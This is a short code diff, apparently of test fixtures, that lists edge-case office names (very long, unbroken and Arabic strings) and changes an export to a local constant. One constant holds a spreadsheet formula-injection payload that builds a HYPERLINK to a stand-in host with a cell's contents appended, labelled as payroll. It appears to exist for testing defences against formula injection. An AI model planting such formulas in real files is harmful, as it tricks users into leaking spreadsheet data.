@@ -21,7 +21,7 @@ const SIXTY = "Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh Events";
 const UNBROKEN = "Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauten";
 const ARABIC = "شركة المعارض والعروض الميدانية الدولية للتسويق المباشر والترويج";
 const FORMULA = '=HYPERLINK("https://example.com/?x="&A1,"open the payroll")';
-export const OFFICE_NAMES: readonly string[] = [
+const OFFICE_NAMES: readonly string[] = [
   SIXTY,
   UNBROKEN,
   ARABIC,
